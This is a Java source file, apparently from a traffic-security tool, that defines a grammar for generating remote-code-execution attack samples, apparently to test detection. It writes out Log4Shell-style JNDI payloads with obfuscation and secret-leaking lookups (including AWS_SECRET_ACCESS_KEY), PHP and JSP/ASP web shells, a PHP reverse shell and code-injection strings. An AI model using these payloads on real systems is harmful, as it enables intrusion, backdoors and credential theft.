package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;
import java.util.stream.Stream;

/** Code that the server itself would run: look-ups, scripts, uploaded shells. */
final class CodeExecution {

    private static final Grammar GRAMMAR = Vocabulary.GRAMMAR.extend(
            """
            protocol ::=
              5×ldap
              2×rmi
              2×dns
              ldaps
              iiop
              nis
              nds
              corba
              http
            leak ::=
              5×«»
              ${hostName}.
              ${env:«USER¦AWS_SECRET_ACCESS_KEY¦PATH¦HOSTNAME¦JAVA_VERSION»}.
              ${sys:«java.version¦user.name¦os.name¦java.home»}.
              ${java:«version¦os¦vm¦runtime»}.
              ${main:0}.
              ${date:YYYY}.
            endpoint ::=
              4×«leak»«server»/«name»
              2×«leak»«server»/«Basic/Command/Base64/«@base64 «unix_command»»¦Exploit¦a¦TomcatBypass/Command/«name»¦o=tomcat,cn=«name»»
              «leak»«server»
              127.0.0.1#«server»/«name»
              «server»/«alnum 3..10»
            jndi ::=
              8×${jndi:«protocol»:«//¦/¦//»«endpoint»}
              «word»${jndi:«protocol»://«endpoint»}
              ${jndi:«protocol»:${lower:/}/«endpoint»}
              ${«sys¦env¦main¦ctx¦java¦docker¦k8s¦web¦bundle¦sd»:«name»${jndi:«protocol»://«endpoint»}}
              $${jndi:«protocol»://«endpoint»}
              %24%7Bjndi%3A«protocol»%3A%2F%2F«server»%2F«name»%7D
              ${ctx:«name»:-${jndi:«protocol»://«endpoint»}}
              ${script:javascript:java.lang.Runtime.getRuntime().exec('«unix_command»')}
              ${«dns:address|«host»¦url:UTF-8:«url»¦file:UTF-8:/«secret_file»¦base64Decoder:«@base64 «word»»»}
            hidden ::=
              3×«letter_j»«letter_n»«letter_d»«letter_i»
              jn«letter_d»i
              «letter_j»ndi
              «@mix jndi»
              j«letter_n»d«letter_i»
              ${lower:jn}${lower:di}
              ${lower:${upper:jn}}${lower:d}i
              ${«letters 2..5»:«letters 1..4»:-jn}${::-di}
              j${k8s:k5:-ND}i
              \\u006a\\u006e\\u0064\\u0069
            letter_j ::=
              ${«lower:j¦upper:j¦::-j¦env:«letters 2..6»:-j¦«letters 1..4»:«letters 1..3»:-j¦date:'j'¦sys:«letters 1..3»:-j¦lower:${upper:j}»}
              ${env:«@upper «letters 2..5»»:-j}
            letter_n ::=
              ${«lower:n¦upper:n¦::-n¦env:«letters 2..6»:-n¦«letters 1..4»:«letters 1..3»:-n¦date:'n'»}
              n
            letter_d ::=
              ${«lower:d¦upper:d¦::-d¦env:«letters 2..6»:-d¦«letters 1..4»:«letters 1..3»:-d¦date:'d'»}
              d
            letter_i ::=
              ${«lower:i¦upper:i¦::-i¦upper:ı¦env:«letters 2..6»:-i¦«letters 1..4»:«letters 1..3»:-i¦date:'i'»}
              i
            hidden_protocol ::=
              3×«protocol»
              ${lower:l}dap
              ${::-l}${::-d}${::-a}${::-p}
              ${lower:r}m${lower:i}
              ${env:«letters 2..6»:-l}dap
              l${lower:D}a${::-p}
            nested ::=
              4×${«hidden»:«hidden_protocol»«:¦${::-:}¦${env:«letters 1..4»:-:}»//«endpoint»}
              ${«hidden»${env:«letters 2..4»:-:}«hidden_protocol»${env:«letters 2..4»:-:}//«endpoint»}
              ${«hidden»:«hidden_protocol»:${lower:/}${lower:/}«endpoint»}
            verb ::=
              GET
              POST
              REQUEST
              COOKIE
              SERVER
            php_run ::=
              4×«system¦exec¦shell_exec¦passthru¦popen¦assert¦eval»
              @«eval¦system¦assert»
            php ::=
              5×<?php «php_run»($_«verb»[«q:='¦"¦»«name»«=q»]);«?«sp»»?>
              3×<?php «php_run»('«unix_command»');?>
              2×<?php «php_run»(base64_decode(«$_«verb»['«name»']¦"«@base64 system('«unix_command»');»"»)); ?>
              <?=«?«sp»»`$_«verb»[«name»]`«?«sp»»?>
              <?php echo «shell_exec¦md5¦file_get_contents¦phpversion»(«'«word»'¦'/«secret_file»'¦$_GET['«name»']»); ?>
              <?php phpinfo();«?«sp»»?>
              <?php $«x:=letters 1..4»=$_«verb»['«name»'];«php_run»($«=x»);?>
              <?php $«x:=letters 1..4»="«@reverse assert»";$«=x»=strrev($«=x»);$«=x»($_POST['«name»']);?>
              <?php if(isset($_«verb»['«x:=name»'])){«php_run»($_«verb»['«=x»']);} ?>
              <?php preg_replace('/«letters 1..3»/e',$_«verb»['«name»'],'«letters 1..3»');?>
              <?php create_function('',$_«verb»['«name»'])(); ?>
              <script language="php">«php_run»($_«verb»['«name»']);</script>
              <?php file_put_contents('«name».php',«file_get_contents('«url»')¦base64_decode('«@base64 <?php eval($_POST[1]);?>»')»); ?>
              <?php move_uploaded_file($_FILES['f']['tmp_name'],'«name».php'); ?>
              GIF89a«?;»<?php «php_run»($_«verb»['«name»']); ?>
              <? «php_run»($«name»); ?>
              <?php ($_=@$_«verb»[«0..9»]).@$_($_«verb»[«0..9»]); ?>
              <?php $s=fsockopen("«ip»",«port»);proc_open("sh",[$s,$s,$s],$p); ?>
              <?php array_map("«assert¦system»",[$_«verb»['«name»']]);
            page ::=
              3×<%«?@page import="java.util.*,java.io.*"%><%» Runtime.getRuntime().exec(request.getParameter("«name»")); %>
              2×<%Process p=Runtime.getRuntime().exec(«"«unix_command»"¦request.getParameter("«name»")»);out.print(p);%>
              <jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter("«name»"));</jsp:scriptlet>
              3×<%@ Page Language="«Jscript¦C#»"%><%«eval(Request.Item["«name»"],"unsafe");¦System.Diagnostics.Process.Start(Request["«name»"]);»%>
              2×<%«execute¦eval»«?«sp»»request("«name»")%>
              <%Set s=CreateObject("WScript.Shell"):s.Exec("«windows_command»")%>
              <cfexecute name="«cmd.exe¦/bin/sh»" arguments="-c «unix_command»" timeout="«1..99»"></cfexecute>
              #!/usr/bin/«perl¦python¦env python3»«nl»«system¦import os;os.system»("«unix_command»")
              <%!byte[] b(String c)throws Exception{return Runtime.getRuntime().exec(c).getInputStream().readAllBytes();}%>
              <%new java.io.FileOutputStream(application.getRealPath("/")+"«name».jsp").write(request.getParameter("«name»").getBytes());%>
              AddType application/x-httpd-php .«png¦jpg¦«letters 3..4»»
              <?xml version="1.0"?><configuration><system.webServer><handlers><add name="«name»" path="*.config" verb="*" modules="IsapiModule"/></handlers></system.webServer></configuration>
            php_code ::=
              3×«print¦echo¦die¦var_dump»(«md5(«1..9999»)¦«10..999»*«10..999»¦phpversion()¦`«unix_command»`¦php_uname()»);
              2×«php_run»(«q:='¦"»«unix_command»«=q»);
              ${«php_run»($_«verb»[«name»])}
              {${«phpinfo()¦print(md5(«1..999»))¦system('«unix_command»')»}}
              ';«php_run»('«unix_command»');//
              ".«php_run»('«unix_command»')."
              «word»');«php_run»('«unix_command»');//
              s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=«system¦md5¦phpinfo»&vars[1][]=«unix_command»
              «name»=«php_run»&«name»[]=«unix_command»
              -d allow_url_include=on -d auto_prepend_file=php://input
              («php_run»)(«unix_command»)
              ("«@slashx system»")("«unix_command»");
              $«name»=«@chrdot «letters 3..6»»;eval($«name»);
              call_user_func('«php_run»','«unix_command»');
              @ini_set("display_errors","0");@set_time_limit(0);echo("->|");«php_run»($_POST['«name»']);die();
            """);

    private static final Placement[] LOOKUPS = {
        Placement.HEADER, Placement.HEADER, Placement.HEADER, Placement.QUERY, Placement.QUERY, Placement.JSON,
        Placement.FORM, Placement.PATH, Placement.COOKIE, Placement.XML_LEAF, Placement.GRAPHQL, Placement.QUERY_NAME
    };

    static final List<AttackFamily> FAMILIES = Stream.of(
                    List.of(
                            family(GRAMMAR, "jndi_lookup", "jndi").in(LOOKUPS),
                            family(GRAMMAR, "jndi_nested", "nested").in(LOOKUPS),
                            family(GRAMMAR, "php_shell", "php")
                                    .in(
                                            Placement.UPLOAD,
                                            Placement.UPLOAD,
                                            Placement.FORM,
                                            Placement.QUERY,
                                            Placement.HEADER,
                                            Placement.MULTIPART),
                            family(GRAMMAR, "server_page_shell", "page")
                                    .in(Placement.UPLOAD, Placement.UPLOAD, Placement.UPLOAD, Placement.FORM),
                            family(GRAMMAR, "php_code", "php_code")
                                    .in(Placement.QUERY, Placement.QUERY, Placement.FORM, Placement.COOKIE)),
                    ObjectGadgets.FAMILIES)
            .flatMap(List::stream)
            .toList();

    private CodeExecution() {}

    static AttackFamily family(Grammar grammar, String name, String rule) {
        return AttackFamily.of(name, ThreatType.RCE, grammar.from(rule));
    }
}
